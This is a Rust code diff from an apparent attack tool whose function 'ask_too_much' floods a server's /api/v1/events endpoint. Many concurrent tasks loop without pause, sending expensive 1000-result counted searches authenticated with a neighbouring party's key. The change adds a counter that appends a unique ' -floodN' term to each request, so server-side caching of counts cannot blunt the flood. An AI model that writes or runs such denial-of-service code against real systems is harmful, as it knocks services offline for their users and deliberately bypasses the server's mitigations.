@@ -1,6 +1,12 @@
 //! Owns requests that cost more than they should, one after the other without a pause.
 
-use std::{io::Write as _, sync::Arc};
+use std::{
+    io::Write as _,
+    sync::{
+        Arc,
+        atomic::{AtomicU64, Ordering},
+    },
+};
 
 use tokio::task::JoinSet;
 
@@ -80,13 +86,17 @@ pub(super) fn ask_too_much(tasks: &mut JoinSet<()>, target: &Arc<Target>) {
     let pairs = target.words.windows(2).map(|pair| format!("-\"{} {}\"", pair[0], pair[1]));
     let search = encode_parameter(&pairs.take(WORDS).collect::<Vec<_>>().join(" "));
     let question: Arc<str> = format!("/api/v1/events?limit=1000&count=true&q={search}").into();
+    let asked = Arc::new(AtomicU64::new(0));
     for _ in 0..FLOODERS {
-        let (target, question) = (Arc::clone(target), Arc::clone(&question));
+        let (target, question, asked) = (Arc::clone(target), Arc::clone(&question), Arc::clone(&asked));
         tasks.spawn(async move {
             let mut client = Client::new(target.address);
             let key = Credential::of_key(&target.neighbour);
             loop {
-                target.answers.note(told(&client.call(&key, Call::get(&question)).await));
+                // Never the same question twice, because the server keeps what it counted.
+                let number = asked.fetch_add(1, Ordering::Relaxed);
+                let another = encode_parameter(&format!(" -flood{number}"));
+                target.answers.note(told(&client.call(&key, Call::get(&format!("{question}{another}"))).await));
             }
         });
     }
